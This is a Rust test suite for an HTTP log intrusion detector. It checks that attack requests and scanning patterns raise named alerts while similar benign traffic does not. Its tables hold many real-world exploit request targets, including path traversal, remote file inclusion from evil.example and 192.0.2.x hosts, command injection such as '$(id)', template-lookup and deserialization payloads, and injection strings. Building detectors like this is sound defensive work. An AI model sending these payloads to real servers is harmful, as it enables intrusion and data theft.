//! Scenarios of other host-based detectors: each raises an alert of a rule that names it, and similar
//! legitimate requests raise nothing above informational. The targets are from published vulnerabilities and
//! tools.

use crate::{alerts_of_events, alerts_of_log, log_line};
use serde_json::json;

const BROWSER: &str = "Mozilla/5.0";

/// Single requests that are attempts whatever their outcome.
const EXPLOITS: &[(&str, &str)] = &[
    ("GET", "/download.php?file=../wp-config.php"),
    ("GET", "/index.php?page=/etc/os-release"),
    ("GET", "/index.php?page=C:/xampp/apache/logs/access.log"),
    ("GET", "/index.php?file=config.php%00.html"),
    ("GET", "/ftp/package.json.bak%2500.md"),
    ("GET", "/dvwa/vulnerabilities/fi/?page=http://evil.example/shell.txt"),
    ("GET", "/autodiscover/autodiscover.json?a@foo.var/mapi/nspi/?&Email=x"),
    ("POST", "/ws/v1/cluster/apps/new-application"),
    ("POST", "/webtools/control/forgotPassword;/ProgramExport"),
    ("GET", "/index.action?redirect%3A%24%7B%23a%3D1%7D"),
    ("POST", "/tmUnblock.cgi"),
    ("PUT", "/fileserver/test.txt"),
    ("GET", "/index.php?-s"),
    ("GET", "/?XDEBUG_SESSION_START=phpstorm"),
    ("POST", "/wp-json/wp/v2/posts/123?id=123abc"),
    ("GET", "/login.php?user='or''='&pass=x"),
    ("GET", "/item.php?id=1%20AND%20GREATEST%281%2C2%29%3D2"),
    ("GET", "/vendor/htmlawed/htmlawed/htmLawedTest.php"),
    ("POST", "/service/extension/backup/mboximport?account-name=admin&ow=2&append=1"),
    ("GET", "/autodiscover/autodiscover.json?a@b.c/owa/&Email=x&Protocol=PowerShell"),
    ("GET", "/?q=${url:UTF-8:http://192.0.2.1/}"),
    ("GET", "/?q=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime%7D"),
    ("GET", "/remote_agent.php?action=polldata&host_id=1&poller_id=%60id%60"),
    ("POST", "/login/index.php?login=$(id)"),
    ("GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/a"),
    ("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
    ("GET", "/public/plugins/alertlist/../../../../conf/defaults.ini"),
    ("GET", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh"),
    ("GET", "/_/;/WEB-INF/decorators.xml"),
    ("GET", "/s/x/_/%3B/META-INF/maven/pom.xml"),
    ("GET", "/dana-na/../dana/html5acc/guacamole/../../../etc/x?/dana/html5acc/guacamole/"),
    ("GET", "/?s=index/%5Cthink%5CContainer/invokefunction&function=call_user_func_array"),
    ("GET", "/catalog-portal/ui/oauth/verify?deviceUdid=%24%7b%22%66%72%65%65%6d%61%72%6b%22%7d"),
    ("GET", "/ui/vcav-bootstrap/rest/vcav-providers/provider-logo?url=http://192.0.2.9/x"),
    ("GET", "/w00tw00t.at.ISC.SANS.DFind:)"),
    ("POST", "/x?d={%22@type%22:%22com.sun.rowset.JdbcRowSetImpl%22,%22autoCommit%22:true}"),
    ("GET", "/CFIDE/adminapi/accessmanager.cfc?method=foo&_cfclient=true"),
    ("GET", "/%2577ebui_wsma_http"),
    ("GET", "/OA_HTML/help/../ieshostedsurvey.jsp"),
    ("POST", "/OA_HTML/configurator/UiServlet"),
    ("POST", "/OA_HTML/SyncServlet"),
    ("POST", "/actuator/gateway/routes/hacktest"),
    ("PUT", "/SDK/webLanguage"),
    ("POST", "/aspnet_client/system_web/log.aspx?exec_code=x"),
    ("POST", "/v1.41/containers/create"),
    ("POST", "/jenkins/scriptText"),
    ("POST", "/goanywhere/lic/accept"),
    ("POST", "/OA_HTML/BneViewerXMLService?bne:uueupload=TRUE"),
    ("GET", "/cgi-bin/nobody/Search.cgi?username=admin%20;XmlAp%20r%20Account.User1>$(ps)"),
    ("POST", "/webui_wsma_http"),
    ("GET", "/users/sign_in?user[password][$ne]=1"),
    ("GET", "/search?user=admin)(|(password=*))"),
    ("GET", "/cgi-bin/jarrewrite.sh"),
    ("GET", "/cgi-bin/supervisor/CloudSetup.cgi?exefile=id"),
    ("GET", "/backupmgt/localJob.php?session=fail;id"),
    ("GET", "/system.ini?loginuse&loginpas"),
    ("GET", "/cgi-bin/popen.cgi?command=id&v=0.1"),
    ("GET", "/human2.aspx"),
    ("POST", "/api/jsonws/expandocolumn/update-column"),
    ("GET", "/sys/ui/extend/varkind/custom.jsp"),
    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    ("GET", "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false"),
    ("POST", "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
    ("GET", "/setup.cgi?next_file=a.cfg&todo=syscmd&cmd=reboot&curpath=/"),
    ("POST", "/Telerik.Web.UI.WebResource.axd?type=rau"),
    ("GET", "/usr/share/doc/readme.html%3f"),
    ("GET", "/x.php?lib_path=http://192.0.2.1/a"),
    ("POST", "/hax/..CFIDE/adminapi/base.cfc"),
    ("POST", "/template/aui/text-inline.vm"),
    ("GET", "/clients/MyCRL"),
    ("GET", "/index.php?lang=../pearcmd&+config-create+/&/x"),
    ("GET", "/vpn/%2e%2e/vpns/cfg/smb.conf"),
    ("POST", "/webtools/control/forgotPassword;/ProgramExport;"),
    ("GET", "/@fs/etc/hostname?raw??"),
    ("GET", "/nice%20ports%2C/Tri%6Eity.txt%2ebak"),
    ("GET", "/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css"),
];

/// Several requests of a client: method, targets, status, user agent, and the expected rule.
type Scenario = (&'static str, &'static [&'static str], u16, &'static str, &'static str);

const SCENARIOS: &[Scenario] = &[
    ("GET", &["/.htpasswd", "/.listing", "/.rhosts", "/.svn"], 404, BROWSER, "http-probing"),
    ("GET", &["/db.sql.gz", "/a.php.bak", "/.bashrc", "/env.json"], 403, BROWSER, "http-probing"),
    (
        "GET",
        &["//pma/scripts/setup.php", "/phpMyAdmin/", "/admin/pma/", "/mysqladmin/"],
        404,
        "-",
        "http-probing",
    ),
    (
        "GET",
        &["/wp-login.php", "/wp-admin/setup-config.php", "/xmlrpc.php", "/a/wlwmanifest.xml"],
        404,
        BROWSER,
        "http-probing",
    ),
    ("GET", &["/c99shell.php"], 404, BROWSER, "http-attack-attempt"),
    ("GET", &["/start.php?lang=http://192.0.2.1/id.txt?"], 404, BROWSER, "http-attack-attempt"),
    (
        "GET",
        &["/?author=1", "/?author=2", "/?author=3", "/?author=4", "/?author=5"],
        301,
        BROWSER,
        "http-user-enumeration",
    ),
    (
        "GET",
        &[
            "/s?q=<b>1", "/s?q=%3Cimg+src=1", "/s?q=%22javascript:1", "/s?q=<br/>",
            "/s?q=prompt(1)", "/s?q=%3C/table%3E",
        ],
        200,
        BROWSER,
        "http-xss-probing",
    ),
    ("POST", &["/login"; 6], 401, BROWSER, "http-logins-refused"),
    ("POST", &["/wp-login.php"; 6], 200, BROWSER, "http-logins-refused"),
    (
        "GET",
        &["/a", "/b", "/c", "/d", "/e", "/f", "/g", "/h", "/i", "/j"],
        404,
        BROWSER,
        "http-path-probing",
    ),
    ("GET", &["/", "/"], 200, "masscan/1.3", "http-scanner-user-agent"),
    ("GET", &["/", "/"], 200, "EmailSiphon", "http-scanner-user-agent"),
    ("CONNECT", &["example.com:443"], 405, BROWSER, "http-attack-attempt"),
    ("GET", &["/cgi-bin/camera.cgi", "/phpMyAdmin-5/"], 403, BROWSER, "http-probing-begun"),
    (
        "GET",
        &[
            "/wp-content/plugins/gallery/readme.txt",
            "/blog/wp-content/plugins/form/upload.php",
            "/wp-content/themes/x/404.php",
            "/wp-includes/version.php",
        ],
        404,
        BROWSER,
        "http-probing",
    ),
    ("POST", &["/api/admin/session"; 6], 404, BROWSER, "http-logins-refused"),
    ("POST", &["/xmlrpc.php"; 6], 200, BROWSER, "http-logins-refused"),
    (
        "GET",
        &["/sap/public/info", "/irj/portal", "/nwa", "/cgi-bin/ViewLog.asp"],
        404,
        BROWSER,
        "http-probing",
    ),
    ("POST", &["/apps/login"; 6], 200, BROWSER, "http-logins-repeated"),
];

/// Requests of a legitimate client, with their status.
const HONEST: &[(&[&str], u16)] = &[
    (
        &[
            "/wp-content/uploads/a.jpg", "/wp-content/uploads/b.jpg", "/wp-content/uploads/c.jpg",
            "/wp-content/uploads/d.jpg", "/wp-content/uploads/e.jpg",
        ],
        404,
    ),
    (
        &[
            "/.well-known/security.txt",
            "/.well-known/change-password",
            "/.well-known/assetlinks.json",
            "/.well-known/apple-app-site-association",
            "/favicon.ico",
        ],
        404,
    ),
    (&["/autodiscover/autodiscover.xml", "/Autodiscover/Autodiscover.xml", "/admin/login"], 404),
    (
        &["/blog?author=1", "/blog?author=2", "/blog?author=3", "/blog?author=4", "/blog?author=5"],
        200,
    ),
    (
        &["/s?q=%3C3", "/s?q=a%3Cb", "/s?q=1+%3C+2", "/s?q=i+%3C3+u", "/s?q=%3C%3C", "/s?q=x%3C"],
        200,
    ),
    (&["/r?url=https%3A%2F%2Fexample.com%2F%3F", "/r?url=http://example.com/a.html"], 200),
    (&["/a?_=1", "/a?_=2", "/a?1=1", "/a?2=1"], 200),
    (&["/f?q=%5B1%5D%5B2%5D&m=a%40b.c%7Cd"], 200),
    (
        &[
            "/wp-content/plugins/form/a.css",
            "/wp-content/plugins/form/a.js",
            "/wp-content/themes/x/a.png",
            "/wp-includes/a.svg",
        ],
        404,
    ),
    (&["/wiki/Who%27s_There%3F", "/usr/7", "/var/a?b=%3f"], 404),
    (
        &[
            "/migrations/1_first.sql", "/migrations/2_second.sql", "/migrations/3_third.sql",
            "/migrations/4_fourth.sql", "/migrations/5_fifth.sql",
        ],
        200,
    ),
];

#[test]
fn a_target_of_a_known_hole_is_an_attempt() {
    let lines = EXPLOITS.iter().enumerate();
    let lines = lines.map(|(client, request)| log_line(client, 0, *request, 404, BROWSER));
    let alerts = alerts_of_log(&lines.collect::<String>());
    for (client, (_, target)) in EXPLOITS.iter().enumerate() {
        let of = alerts.get(&client).cloned().unwrap_or_default();
        assert!(of.iter().any(|(rule, _)| rule == "http-attack-attempt"), "{target}: {of:?}");
    }
}

#[test]
fn scenarios_raise_the_rule_that_names_them() {
    let mut log = String::new();
    for (client, (method, targets, status, agent, _)) in SCENARIOS.iter().enumerate() {
        for (second, target) in targets.iter().enumerate() {
            log += &log_line(client, second, (method, target), *status, agent);
        }
    }
    let alerts = alerts_of_log(&log);
    for (client, (_, targets, _, _, rule)) in SCENARIOS.iter().enumerate() {
        let of = alerts.get(&client).cloned().unwrap_or_default();
        assert!(of.iter().any(|(name, _)| name == rule), "{targets:?} {rule}: {of:?}");
    }
}

#[test]
fn what_only_looks_like_them_raises_nothing() {
    let mut log = String::new();
    for (client, (targets, status)) in HONEST.iter().enumerate() {
        for (second, target) in targets.iter().enumerate() {
            log += &log_line(client, second, ("GET", target), *status, BROWSER);
        }
    }
    let alerts = alerts_of_log(&log);
    for (client, (targets, _)) in HONEST.iter().enumerate() {
        let of = alerts.get(&client).cloned().unwrap_or_default();
        assert!(of.iter().all(|(_, severity)| *severity == 0), "{targets:?}: {of:?}");
    }
}

/// Thirty different numbers in place of a query bypass a cache; values of a parameter, and numbers in file
/// names, do not.
#[test]
fn numbers_go_round_a_cache() {
    let numbers = |form: &str| {
        let target = |n: usize| form.replace('N', &(20_000_000 + n * 77).to_string());
        let lines = (0..40).map(|n| log_line(0, n / 10, ("GET", &target(n)), 200, BROWSER));
        alerts_of_log(&lines.collect::<String>())
    };
    assert_eq!(numbers("/?N")[&0], [("http-cache-bypass".to_owned(), 2)]);
    for form in ["/?_=N", "/a.css?N", "/item?20000001", "/N"] {
        assert!(numbers(form).is_empty(), "{form}");
    }
}

/// Programs that show pictures of listed items request many that do not exist.
#[test]
fn pictures_that_are_missing_are_no_scan() {
    let digest =
        |n: u64| format!("{:032x}", u128::from(n + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15_f39c));
    let uuid = |n: u64| format!("{n:08x}-0000-4000-8000-{:012x}", n * 77);
    let scan = |target: &dyn Fn(u64) -> String| {
        let lines = (0..60).map(|n| log_line(0, n / 2, ("GET", &target(n as u64)), 404, BROWSER));
        let alerts = alerts_of_log(&lines.collect::<String>());
        alerts.into_values().flatten().any(|(rule, _)| rule == "http-path-scan")
    };
    assert!(!scan(&|n| format!("/Items/{}/Images/Primary?MaxHeight=330", digest(n))));
    assert!(!scan(&|n| format!("/media/{}/thumb", uuid(n))));
    assert!(!scan(&|n| format!("/dav/contacts/{}.vcf?photo", uuid(n))));
    assert!(scan(&|n| format!("/{}/admin{n}.php", digest(1))));
    assert!(scan(&|n| format!("/images/word{n}/thumb")));
}

/// Forty clients with the same user agent share a wordlist; as many visitors with one look for a few things
/// each.
#[test]
fn a_scan_that_many_clients_share_is_one() {
    let shared = |agent: &str, target: &dyn Fn(usize, usize) -> String| {
        let requests = (0..40).flat_map(|client| (0..3).map(move |n| (client, n)));
        let line = |(client, n): (usize, usize)| {
            log_line(client, client + n, ("GET", &target(client, n)), 404, agent)
        };
        alerts_of_log(&requests.map(line).collect::<String>())
    };
    let rules = |alerts: std::collections::BTreeMap<usize, Vec<(String, u64)>>| -> Vec<String> {
        let all = alerts.into_values().flatten();
        all.filter(|(_, severity)| *severity > 0).map(|(rule, _)| rule).collect()
    };
    let scan = shared(BROWSER, &|client, n| format!("/word{}", client * 3 + n));
    assert_eq!(rules(scan), ["http-spread-scan"]);
    let folder = |agent: &str, each: usize| {
        let requests = (0..64).flat_map(|client| (0..each).map(move |n| (client, n)));
        let mut requests: Vec<_> = requests.map(|(c, n)| (c * 5 + n * 11, c, n)).collect();
        requests.sort_unstable();
        let line = |(second, client, n): (usize, usize, usize)| {
            let target = format!("/api/v1/word{}", client * each + n);
            log_line(client, second, ("GET", &target), 404, agent)
        };
        rules(alerts_of_log(&requests.into_iter().map(line).collect::<String>()))
    };
    assert_eq!(folder(BROWSER, 20), ["http-spread-folder-scan"]);
    assert_eq!(folder(BROWSER, 3), [""; 0]);
    assert_eq!(folder("inventory/1.0", 20), [""; 0]);
    // The same under as many names as addresses.
    let named = |each: usize| {
        let requests = (0..each).flat_map(|n| (0..64).map(move |client| (client, n)));
        let line = |(client, n): (usize, usize)| {
            let target = format!("/word{}", client * each + n);
            let agent = format!("Mozilla/5.0 (X11; {client})");
            log_line(client, n * 9 + client / 8, ("GET", &target), 404, &agent)
        };
        rules(alerts_of_log(&requests.map(line).collect::<String>()))
    };
    assert_eq!(named(15), ["http-spread-scan-any"]);
    assert_eq!(named(7), [""; 0]);
    let attack = shared(BROWSER, &|client, n| format!("/a{n}?f=../../../etc/passwd{client}"));
    assert_eq!(rules(attack), ["http-spread-attack"]);
    let service = shared("inventory/1.0", &|client, n| format!("/v1/items/name-{client}-{n}"));
    assert_eq!(rules(service), [""; 0]);
    let icons = ["/favicon.ico", "/apple-touch-icon.png", "/robots.txt"];
    let visitors = shared(BROWSER, &|_, n| icons[n].to_owned());
    assert_eq!(rules(visitors), [""; 0]);
}

/// A server that answers everything with the same page; a site that has the requested files; two of the same
/// length.
#[test]
fn a_wordlist_that_is_answered_is_told() {
    let line = |client, n: usize, path: &str, length: usize| {
        let line = log_line(client, n, ("GET", path), 200, BROWSER);
        line.replacen("200 50", &format!("200 {length}"), 1)
    };
    let words = [
        "/.git/HEAD~", "/admin.php", "/administrator/", "/backup/", "/config.php", "/phpinfo",
        "/index.bak", "/cgi-bin/",
    ];
    let asked = |client, length: &'static dyn Fn(usize) -> usize| {
        let asked = words.iter().enumerate();
        asked.map(move |(n, path)| line(client, n, path, length(n)))
    };
    let admin = (0..40).map(|n| line(3, n, &format!("/administrator/page-{}", n % 5), 900));
    let lines = asked(0, &|_| 900).chain(asked(1, &|n| 900 + n)).chain(admin);
    let alerts = alerts_of_log(&lines.collect::<String>());
    let told = |client| {
        let alerts = alerts.get(&client).into_iter().flatten();
        alerts.filter(|(rule, _)| rule == "http-wordlist-answered").count()
    };
    assert_eq!([told(0), told(1), told(3)], [1, 0, 0], "{alerts:?}");
}

/// Lists of names that a server answers alike, numbers in queries, shells, passwords under many names of browsers.
#[test]
fn what_one_client_tries_is_named_however_it_is_answered() {
    let told = |count: usize, line: &dyn Fn(usize) -> String| {
        let alerts = alerts_of_log(&(0..count).map(line).collect::<String>());
        let all = alerts.into_values().flatten().filter(|(_, severity)| *severity > 0);
        let mut rules: Vec<String> = all.map(|(rule, _)| rule).collect();
        rules.sort_unstable();
        rules.dedup();
        rules
    };
    let word = |n: usize| format!("/w{}{n}x", n * 7 % 26);
    let words = |count: usize, agent: &str| {
        let events = (0..count).map(|n| {
            json!({
                "@timestamp": format!("2026-11-24T10:00:{:02}Z", n / 2),
                "event": {"kind": "event"},
                "http_trace": {"missing": []},
                "source": {"ip": "198.51.100.7"},
                "destination": {"ip": "10.0.0.2", "port": 80},
                "url": {"original": word(n)},
                "http": {
                    "request": {"method": "GET", "headers": {"user-agent": [agent]}},
                    "response": {
                        "status_code": 200,
                        "headers": {"content-type": ["text/html"]},
                        "body": {"bytes": 5000},
                    },
                },
            })
        });
        alerts_of_events(&events.collect::<Vec<_>>())
    };
    assert_eq!(words(70, BROWSER), ["http-paths-answered"]);
    assert_eq!(words(50, BROWSER), [""; 0]);
    assert_eq!(words(70, "Mozilla/5.0 (compatible; bingbot/2.0)"), [""; 0]);
    let folder = |count: usize, sent: serde_json::Value, target: &dyn Fn(usize) -> String| {
        let events = (0..count).map(|n| {
            json!({
                "@timestamp": format!("2026-11-24T10:00:{:02}Z", n / 4),
                "event": {"kind": "event"},
                "http_trace": {"missing": []},
                "source": {"ip": "198.51.100.7"},
                "destination": {"ip": "10.0.0.2", "port": 80},
                "url": {"original": target(n)},
                "http": {
                    "request": {"method": "GET", "headers": sent},
                    "response": {"status_code": 401, "headers": {}},
                },
            })
        });
        alerts_of_events(&events.collect::<Vec<_>>())
    };
    let below = |n| format!("/api/v1{}", word(n));
    assert_eq!(folder(200, json!({}), &below), ["http-paths-to-login-folder"]);
    assert_eq!(folder(100, json!({}), &below), [""; 0]);
    assert_eq!(folder(200, json!({"x-auth-token": ["a"]}), &below), [""; 0]);
    assert_eq!(folder(200, json!({}), &|n| format!("/api/v1/items/{n}")), [""; 0]);
    let numbers = |count, there: usize| {
        told(count, &|n| {
            let status = if n % there == 0 { 404 } else { 200 };
            log_line(1, n, ("GET", &format!("/invoice.php?id={}", 4000 + n)), status, BROWSER)
        })
    };
    assert_eq!(numbers(30, 3), ["http-id-enumeration-query"]);
    assert_eq!(numbers(30, 20), [""; 0]);
    let shell = |n| log_line(1, 5 * n, ("GET", &format!("/wp-{n}.php")), 404, BROWSER);
    assert_eq!(told(15, &shell), ["http-program-probing"]);
    let names = |bad: usize| {
        told(400, &|n| {
            let status = if n % bad == 0 { 302 } else { 401 };
            log_line(n, n, ("POST", "/login"), status, &format!("Mozilla/5.0 ({n})"))
        })
    };
    assert_eq!(names(1000), ["http-spread-logins-any"]);
    assert_eq!(names(5), [""; 0]);
}

/// One login each from many addresses; users of whom one in six mistypes; programs with an outdated password.
#[test]
fn logins_that_many_clients_are_refused_are_told_once() {
    const PEOPLE: &str = "Mozilla/5.0 (X11)";
    let tries = |from: usize,
                 agent: &'static str,
                 path: &'static str,
                 status: &'static dyn Fn(usize) -> u16| {
        let tries = (0..120_usize)
            .map(move |n| log_line(from + n % 60, n * 4, ("POST", path), status(n), agent));
        let alerts = alerts_of_log(&tries.collect::<String>());
        let all = alerts.into_values().flatten();
        let told = all.filter(|(_, severity)| *severity > 0);
        told.map(|(rule, _)| rule).collect::<Vec<_>>()
    };
    assert_eq!(tries(0, PEOPLE, "/login", &|_| 401), ["http-spread-logins"]);
    assert_eq!(tries(0, PEOPLE, "/users/sign_in", &|_| 403), ["http-spread-logins"]);
    assert_eq!(tries(0, PEOPLE, "/login", &|n| if n % 6 == 0 { 401 } else { 302 }), [""; 0]);
    assert_eq!(tries(0, "agent/1.0", "/login", &|_| 401), [""; 0]);
    assert_eq!(tries(0, PEOPLE, "/api/refresh", &|_| 401), [""; 0]);
}

/// WordPress answers 200 to a wrong password, and xmlrpc.php to any call; a query may hold a password.
#[test]
fn guessing_that_no_status_shows_is_told() {
    let told = |request: &dyn Fn(usize) -> (&'static str, String), agent, then: u16| {
        let line = |n: usize| {
            let (method, target) = request(n);
            let line = log_line(1, n * 3, (method, &target), 200, agent);
            line.replace(" 200 50 ", &format!(" 200 {} ", 4500 + n % 9))
        };
        let mut log: String = (0..25).map(line).collect();
        let (method, target) = request(25);
        log += &log_line(1, 80, (method, &target), then, agent);
        let alerts = alerts_of_log(&log).remove(&1).unwrap_or_default();
        alerts.into_iter().map(|(rule, _)| rule).collect::<Vec<_>>()
    };
    let has = |rules: &[String], rule: &str| rules.iter().any(|name| name == rule);
    let login = |_| ("POST", "/wp-login.php".to_owned());
    let rules = told(&login, BROWSER, 302);
    assert!(has(&rules, "http-login-guessing-wordpress"), "{rules:?}");
    assert!(has(&rules, "http-guessed-credentials-wordpress"), "{rules:?}");
    let call = |_| ("POST", "/blog/xmlrpc.php".to_owned());
    let rules = told(&call, "Mozilla/5.0 (X11)", 200);
    assert!(has(&rules, "http-login-guessing-xmlrpc"), "{rules:?}");
    let rules = told(&call, "Jetpack by WordPress.com", 200);
    assert!(!has(&rules, "http-login-guessing-xmlrpc"), "{rules:?}");
    // Faults are of one length, what an edit returns is shorter.
    let calls = |agent, bytes: usize| {
        let line = |n: usize| {
            let line = log_line(1, n * 3, ("POST", "/xmlrpc.php"), 200, agent);
            line.replace(" 200 50 ", &format!(" 200 {bytes} "))
        };
        let alerts = alerts_of_log(&(0..25).map(line).collect::<String>()).remove(&1);
        let alerts = alerts.unwrap_or_default().into_iter();
        alerts.filter(|(_, severity)| *severity > 0).map(|(rule, _)| rule).collect::<Vec<_>>()
    };
    assert_eq!(calls("python-requests/2.31", 403), ["http-login-guessing-xmlrpc-fault"]);
    assert_eq!(calls("python-requests/2.31", 190), [""; 0]);
    assert_eq!(calls("Jetpack by WordPress.com", 403), [""; 0]);
    let query = |n| ("GET", format!("/brute/?username=admin&password=p{n}&Login=Login"));
    let rules = told(&query, BROWSER, 200);
    assert!(has(&rules, "http-login-guessing-query"), "{rules:?}");
    for other in [
        |_| ("GET", "/brute/?username=admin&password=p&Login=Login".to_owned()),
        |n| ("GET", format!("/send?username=a&password=p&to=+4912{n}&text=hello")),
    ] {
        let rules = told(&other, BROWSER, 200);
        assert!(!has(&rules, "http-login-guessing-query"), "{rules:?}");
    }
}
